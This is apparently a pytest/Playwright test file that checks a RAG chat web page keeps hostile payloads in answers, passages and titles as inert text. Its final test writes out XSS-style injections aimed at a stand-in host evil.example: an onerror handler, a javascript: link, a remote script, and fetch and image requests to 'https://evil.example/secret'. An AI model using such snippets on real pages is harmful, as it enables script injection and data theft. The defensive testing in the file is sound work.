"""Safety of the page: all text of models and documents is shown as text, loads nothing and runs nothing."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.library.ingest import InputFile
from rag.pipeline import Pipeline, build_pipeline
from rag.schema import Answer, CheckedFigure, Citation, Confidence, Disagreement, Passage, Source, Statement, Timings
from rag.settings import Settings
from tests.ui.web.conftest import (
    TIMEOUT_MS,
    Opener,
    app_state_of,
    ask,
    serve_page,
    wait_for_verdicts,
    wait_until_at_rest,
    with_draft,
)
from tests.ui.web.payloads import PAYLOADS
from ui.history.exchange import Exchange
from ui.web.app_state import AppState
from ui.web.chat.markdown import literal_markdown, safe_markdown

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CROP = "苏州的秘密作物是水八仙。"  # a sentence in every hostile note, so that a question finds them


# --- the Markdown itself


# code that the page itself formats: every punctuation mark in it is an entity
_CODE = re.compile(r"(?:<pre>)?<code>((?:[^!-/:-@\[-`{-~]|&#\d+;)*)</code>(?:</pre>)?")
_LINKS = re.compile(
    r"\[(?:\\\[\d+\\\]|[^\[\]\n]+)\]"
    r"\((?:#cite-1-\d+|#figure-1-\d+-(?:not|derived)|https?&#58;&#47;&#47;(?:\w|&#\d+;)+)\)")


def assert_harmless(markdown: str) -> None:
    """Check that a text has no tag, image or link except the page's own, and nothing that opens a code block."""
    rest = re.sub(r"\\[!-/:-@\[-`{-~]", "x", _LINKS.sub("", _CODE.sub("", markdown)))
    assert not re.search(r"<[A-Za-z/!?]|!\[|\]\(|`|~~~|://", rest), rest


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_a_payload_becomes_text(payload: str) -> None:
    for length in (len(payload), len(payload) // 2, len(payload) // 3):  # complete, and while it is being written
        assert_harmless(safe_markdown(payload[:length], 1, {1}, evidence=[payload]))
        assert_harmless(literal_markdown(payload[:length]))


@given(st.text(alphabet="`~<>![]()1a/ \n\\&-*|:\"'h#=x.@s>", max_size=80))
def test_no_text_becomes_markup(text: str) -> None:
    assert_harmless(safe_markdown(text, 1, {1}, evidence=["https://a.a/a"]))
    assert_harmless(literal_markdown(text))


_SIGNS = (
    "`", "```", "~~~", "\n", "[1]", "[a](#again-1)", "[a]: #up-1", "<b>", "> ", "- ", "1. ", "  ", "|", "\\", "甲")


@given(st.lists(st.sampled_from(_SIGNS), max_size=30))
def test_no_sequence_of_signs_becomes_a_control_of_the_page(pieces: list[str]) -> None:
    markdown = safe_markdown("".join(pieces), 1, {1})
    assert_harmless(markdown)
    assert not re.search(r"(?m)^[ \t>*+\-.\d)]*\[[^\]\n]*\]:", _LINKS.sub("x", _CODE.sub("x", markdown)))


@pytest.mark.parametrize(("text", "shown"), [
    ("见[年报](https://example.org/a)。", "见年报 ([https://example.org/a](https://example.org/a))。"),
    ("See https://example.org/a.", "See [https://example.org/a](https://example.org/a)."),
    ("[https://example.org/a](https://example.org/a)", "[https://example.org/a](https://example.org/a)"),
    ("[年报](https://example.org/a?q=secret)", "年报 (https://example.org/a?q=secret)"),
    ("[https://example.org/a](https://evil.example)",
     "[https://example.org/a](https://example.org/a) (https://evil.example)"),
    ("https://example.org@evil.example/", "https://example.org@evil.example/"),
    ("https://example.org.evil.example", "https://example.org.evil.example"),
])
def test_an_address_is_shown_in_full_and_is_a_link_only_if_a_passage_contains_it(text: str, shown: str) -> None:
    markdown = safe_markdown(text, 1, (), evidence=["据 https://example.org/a，2023 年。"])
    assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown


@pytest.mark.parametrize(("text", "shown"), [
    ("- ```py\n  x = a[1]\n  ```\n再看[1]", "- <pre><code>x = a[1]</code></pre>\n再看[\\[1\\]](#cite-1-1)"),
    ("> ~~~\n> a\n> b\n> ~~~\nafter", "> <pre><code>a\nb</code></pre>\nafter"),
    ("`` a`b `` and `c|d`", "<code>a`b</code> and <code>c|d</code>"),
])
def test_code_is_shown_unchanged(text: str, shown: str) -> None:
    markdown = safe_markdown(text, 1, {1})
    assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown


def test_headings_of_an_answer_are_below_those_of_the_page() -> None:
    assert safe_markdown("# 甲\n## 乙\n\n丙\n---\n丁") == "### 甲\n#### 乙\n\n丙\n\n---\n丁"
    assert safe_markdown("### One\n###### Two") == "### One\n###### Two"


# --- a page that is attacked


_WATCH = """
    window.broken = [];
    document.addEventListener('securitypolicyviolation',
        (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
_FORBIDDEN = (
    "img, picture, source, iframe, frame, object, embed, video, audio, track, canvas, form, input, textarea, select, "
    "style, link, meta, base, script, math, template, marquee, noscript, dialog, gradio-app, x-y, xmp, applet")
_ALLOWED = {  # elements and attributes of an answer
    "P", "BR", "A", "CODE", "PRE", "UL", "OL", "LI", "STRONG", "EM", "DEL", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
    "H3", "H4", "H5", "H6", "BLOCKQUOTE", "HR", "DIV", "SPAN", "class", "href", "target", "rel", "title", "align",
    "start", "aria-label"}


@pytest.fixture
def attacked(open_page: Opener) -> Iterator[Callable[..., Page]]:
    """Opens an address like `open_page`, and watches it.

    When the test ends, no script of a payload may have run, no dialog or window may have opened, and the content
    security policy may not have been needed.
    """
    pages: list[Page] = []
    unexpected: list[str] = []

    def open_watched(address: str, **options: object) -> Page:
        page = open_page(address, **options)
        page.evaluate(_WATCH)
        page.add_init_script(_WATCH)  # after a reload
        page.on("dialog", lambda dialog: (unexpected.append(dialog.message), dialog.dismiss()))
        page.context.on("page", lambda other: unexpected.append(f"a window: {other.url}"))
        pages.append(page)
        return page

    yield open_watched
    for page in pages:
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("window.broken") == []
    assert unexpected == []


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> AppState:
    """An application over a library of hostile notes."""
    folder, home = tmp_path_factory.mktemp("notes"), tmp_path_factory.mktemp("home")
    pipeline = build_pipeline(Settings(home=home, chat_model=""))
    with pipeline.library.write_lock():
        list(pipeline.library.add_files(InputFile(note) for note in hostile_notes(folder)))
    return app_state_of(pipeline)


def hostile_notes(folder: Path) -> Iterator[Path]:
    """A note for each payload, with the payload in its name, its metadata and its text; and one with all payloads."""
    for number, payload in enumerate(PAYLOADS.values()):
        line = visible_text(" ".join(payload.split()))
        fields = ("title", "author", "publisher", "container", "city", "url", "date")
        metadata = json.dumps(dict.fromkeys(fields, line), ensure_ascii=False)
        name = re.sub(r"[/\x00-\x1f]", " ", line).encode()[:180].decode(errors="ignore")
        note = folder / f"{number} {name}.md"
        text = f"---\n{metadata}\n---\n\n# {line}\n\n{CROP}{number}\n\n{payload}\n"
        note.write_text(text, encoding="utf-8")
        yield note
    all_payloads = folder / "everything.txt"
    all_payloads.write_text("# 全部\n\n" + "\n\n".join(PAYLOADS.values()), encoding="utf-8")
    yield all_payloads


def exchange(payload: str, number: int) -> Exchange:
    """An answer with the payload in every field."""
    half = payload[: len(payload) // 2]
    passage = Passage(1, f"p-{number}", "s", payload, payload, 1, 0, 9, payload, 0.5, "en", date=payload)
    statement = Statement(payload, payload, payload, 1, payload, payload)
    figures = (
        CheckedFigure(half, 0, len(half), "not found", (1,), (payload,)),
        CheckedFigure(payload, 0, len(payload), "derived", (1,), (payload,), payload))
    citation = Citation(1, payload, passage.id, "s", payload, payload, 1, half, "verified quote")
    answer = Answer(
        payload, "en", "partial", payload, (citation,), (passage,), payload, Timings(1, 1, 1), thinking=payload,
        figures=figures, disagreements=(Disagreement(payload, "conflict", (statement,) * 2),),
        confidence=Confidence("weak", (payload,)), suggestions=(payload,))
    return Exchange(answer, problem=payload if number % 10 == 0 else "")


def visible_text(text: str) -> str:
    """A text without invisible characters: control characters, direction controls, and their replacements."""
    return re.sub(r"[\x00-\x08\x0b-\x1f\u200b\u202a-\u202e\u2060-\u2069\ufdd0-\ufdd2\ufffd]", "", text)


def without_spaces(text: str) -> str:
    return re.sub(r"\s", "", visible_text(text))


def only_letters(text: str) -> str:
    return re.sub(r"[\W_]", "", visible_text(text))


# --- in a conversation


@pytest.mark.browser
def test_saved_answers_and_their_evidence_stay_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
    id = ""
    for number, payload in enumerate(PAYLOADS.values()):
        source = Source(
            "s", payload, payload, "en", author=payload, publisher=payload, container=payload, date=payload,
            url=payload)
        id, _ = hostile.history.save_exchange(id, exchange(payload, number), [source])
    with serve_page(hostile) as address:
        page = attacked(address)
        page.goto(f"{address}/?c={id}")
        wait_for_verdicts(page, len(PAYLOADS))
        page.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
        wait_until_at_rest(page)
        assert forbidden_elements(page, "#chat .message-content, .evidence, #conversations") == []
        assert_replies_are_text(page)
        selectors = (
            "#chat .words", "#evidence .passage", "#evidence .card .title", "#chat .aloud", "#chat .differ b[lang]")
        for selector in selectors:
            texts = page.eval_on_selector_all(selector, "(all) => all.map((each) => each.textContent)")
            for payload, text in zip(PAYLOADS.values(), texts, strict=True):
                assert without_spaces(payload) in without_spaces(text), selector
        written = page.locator("#chat .reply a:not([href^='#cite-'], [href^='#figure-']), #chat .words a")
        links = written.evaluate_all("(all) => all.map((a) => [a.innerText, a.getAttribute('href'), a.rel, a.target])")
        assert len(links) > 10
        for text, href, rel, target in links:
            # the address itself, which a passage has
            assert (text, rel, target) == (href, "noopener noreferrer", "_blank")
        assert page.locator('#chat a[href^="#again-"]').count() == len(PAYLOADS)
        assert page.locator('#chat a[href^="#ask-"]').count() == 1


def assert_replies_are_text(page: Page) -> None:
    replies = page.eval_on_selector_all("#chat .reply", "(all) => all.map((each) => each.textContent)")
    for (name, payload), text in zip(PAYLOADS.items(), replies, strict=True):
        # the language of a code block and the tick of a box are not shown; code by indentation shows entities
        expected = re.sub(r"(```|~~~) *mermaid|^- \[x\]", "", payload)
        assert only_letters(unescape(expected)) == only_letters(unescape(text)), name
    tags = page.evaluate("""() => {
        // gradio adds a button to code by indentation
        const isOurs = (each) => !each.closest('.code_wrap > button');
        const all = [...document.querySelectorAll('#chat .reply *')].filter(isOurs);
        return [...new Set(all.flatMap((each) => [each.tagName, ...each.getAttributeNames()]))];
    }""")
    assert set(tags) <= _ALLOWED


def forbidden_elements(page: Page, within: str) -> list[str]:
    """The elements and attributes in a part of the page that load or run something, and links of other schemes."""
    return page.evaluate("""([within, forbidden]) => [...document.querySelectorAll(within)].flatMap((part) => {
        const all = [...part.querySelectorAll('*')], names = all.flatMap((each) => each.getAttributeNames());
        const hrefs = all.map((each) => each.getAttribute('href')).filter(Boolean);
        return [
            ...all.filter((each) => each.matches(forbidden)).map((each) => each.outerHTML.slice(0, 200)),
            ...names.filter((name) => /^on|^style$|^src|^formaction/.test(name)),
            ...hrefs.filter((href) => !/^(#|https?:|[.][/]|page[/])/.test(href)),
        ];
    })""", [within, _FORBIDDEN])


@pytest.mark.browser
def test_an_answer_in_progress_stays_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
    fenced = [payload for payload in PAYLOADS.values() if "```" in payload or "~~~" in payload]
    plain = [payload for payload in PAYLOADS.values() if payload not in fenced]
    # altered by the pipeline and by the page; code by indentation keeps its text, but shows the link of a figure that
    # no document has as Markdown: `1` as `[1](#figure-1-103-not)`
    altered = [PAYLOADS[name] for name in ("markers that are none", "footnote", "check box", "code by indentation")]

    def draft(*_: object) -> Iterator[str]:
        for payload in [*plain, *fenced]:  # those that open a code block at the end, so that they hide no other
            yield payload[: len(payload) // 2]
            time.sleep(0.03)  # about the speed of a model, so that halves are drawn too; no test depends on it
            yield payload[len(payload) // 2 :] + "\n\n"

    with serve_page(AppState(with_draft(hostile.pipeline, draft), hostile.history, hostile.settings)) as address:
        page = attacked(address)
        page.evaluate("""(forbidden) => {
            window.seen = [];
            const written = `#chat .reply :is(${forbidden}, a:not([href^="#cite-"], [href^="#figure-"]))`;
            const record = () => {
                seen.push(...[...document.querySelectorAll(written)].map((each) => each.outerHTML));
            };
            new MutationObserver(record).observe(document.querySelector('#chat'), { childList: true, subtree: true });
        }""", _FORBIDDEN)
        ask(page, "苏州的秘密作物是什么？")
        assert page.evaluate("window.seen") == []
        assert forbidden_elements(page, "#chat .message-content, .evidence") == []
        assert page.locator("#chat .reply a:not([href^='#cite-']):not([href^='#figure-'])").count() == 0
        page.locator("#chat .reply a[href^='#cite-']").evaluate_all("(all) => all.forEach((marker) => marker.remove())")
        reply = only_letters(unescape(page.text_content("#chat .reply") or ""))
        missing = [payload for payload in plain if only_letters(unescape(payload)) not in reply]
        assert [payload for payload in missing if payload not in altered] == []


@pytest.mark.browser
def test_a_control_in_the_text_of_an_answer_or_a_passage_does_nothing(
    hostile: AppState, attacked: Callable[..., Page],
) -> None:
    with serve_page(hostile) as address:
        page = attacked(address)
        ask(page, "苏州的秘密作物是什么？")
        page.click('#chat a[href^="#cite-1-"] >> nth=0')
        conversation = page.inner_text("#chat")
        for place in ("#chat .reply", "#chat .words", "#evidence .passage"):  # as if the text had not been escaped
            for href in ("#again-1", "#ask-1", "#up-1", "#edit-1", "#view-settings", "#scope", "#document"):
                page.evaluate("""([place, href]) => {
                    const link = `<a id="forged" href="${href}">press</a>`;
                    document.querySelector(place).insertAdjacentHTML('beforeend', link);
                    document.querySelector('#forged').click();
                    document.querySelector('#forged').remove();
                }""", [place, href])
        wait_until_at_rest(page)
        assert page.inner_text("#chat") == conversation
        assert page.locator("dialog").count() == 0
        assert page.get_attribute("html", "data-view") == "chat"
        assert page.input_value("#ask textarea") == ""


# --- in lists, dialogs and the other views


@pytest.mark.browser
def test_titles_of_conversations_stay_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
    titles = [" ".join(visible_text(payload).split())[:200] for payload in PAYLOADS.values()]
    for payload, title in zip(PAYLOADS.values(), titles, strict=True):
        answer = Answer(payload, "en", "partial", "Yes.", model="m", timings_ms=Timings(1, 1, 1))
        id, _ = hostile.history.save_exchange("", Exchange(answer), [])
        hostile.history.rename(id, title)
    with serve_page(hostile) as address:
        page = attacked(address)
        page.wait_for_selector("#conversations a.conversation")
        links = page.eval_on_selector_all(
            "#conversations a.conversation", "(all) => all.map((a) => [a.textContent, a.title])")
        for title in titles:
            assert [title, title] in links
        assert forbidden_elements(page, "#conversations") == []
        for title in (PAYLOADS["image with an error"], PAYLOADS["unfolding"]):
            item = page.locator("#conversations li", has_text=title[:30]).first
            for act in ("rename", "delete"):
                item.hover()
                item.locator(".menu > summary").click()
                item.locator(f'[data-act="{act}"]').click()
                page.wait_for_selector("dialog.wonder")
                assert page.locator("dialog.wonder :is(img, details, script)").count() == 0
                page.click("dialog [data-close]")
        for payload in ("image with an error", "svg on load", "bare address"):
            page.goto(f"{address}/?c={quote(PAYLOADS[payload])}")  # there is no such conversation: the page says so
            page.wait_for_selector(".toast-body")
            assert page.locator(".toast-body :is(img, a)").count() == 0


@pytest.mark.browser
def test_documents_stay_text_in_every_list_and_dialog(hostile: AppState, attacked: Callable[..., Page]) -> None:
    lines = [without_spaces(line) for payload in PAYLOADS.values() for line in payload.split("\n")]
    with serve_page(hostile) as address:
        page = attacked(address)
        ask(page, "苏州的秘密作物是什么？")
        page.click("#evidence-1 .card[open] .tools a[href='#document'] >> nth=0")
        page.wait_for_selector("dialog.reader article")
        assert CROP in page.inner_text("dialog.reader article")
        assert forbidden_elements(page, "dialog.reader") == []
        page.click("dialog.reader [data-close]")
        page.click("#scope-line a")
        page.wait_for_selector("dialog.scope label")
        assert page.locator("dialog.scope label").count() == len(PAYLOADS) + 1
        assert forbidden_elements(page, "dialog.scope label > span") == []
        everything = page.get_attribute("dialog.scope label:has-text('全部') input", "value")
        page.evaluate("async (id) => huwen.dialog(await huwen.html(`page/sources/${id}`), 'reader')", everything)
        assert forbidden_elements(page, "dialog.reader") == []
        text = without_spaces(page.text_content("dialog.reader article") or "")
        # lines change when a document is loaded: the bullets of 5 items, the bars and rules of 5 rows of tables and the
        # signs of 2 headings disappear, and the full-width characters of 1 line become normal ones
        assert len([line for line in lines if line not in text]) <= 13


# --- the policy


@pytest.mark.browser
def test_the_policy_stops_markup_that_was_not_escaped(pipeline: Pipeline, browser: Browser) -> None:
    with serve_page(pipeline) as address:
        page = browser.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(address)
        page.wait_for_selector("#ask textarea")
        page.evaluate(_WATCH)
        page.evaluate("""() => {
            const into = document.querySelector('#evidence');
            into.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked=1">'
                + '<iframe src="https://evil.example"></iframe><a href="javascript:window.hacked=2" id="go">x</a>'
                + '<form action="https://evil.example" id="out"></form>');
            into.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 3' }));
            into.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
            document.querySelector('#go').click();
            document.querySelector('#out').submit();
            fetch('https://evil.example/secret').catch(() => {});
            new Image().src = 'https://evil.example/secret.png';
        }""")
        page.wait_for_function("broken.length >= 8")
        stopped = {violation.split()[0] for violation in page.evaluate("broken")}
        assert page.evaluate("window.hacked") is None
        assert stopped >= {"script-src-attr", "script-src-elem", "frame-src", "form-action", "connect-src", "img-src"}
        page.close()
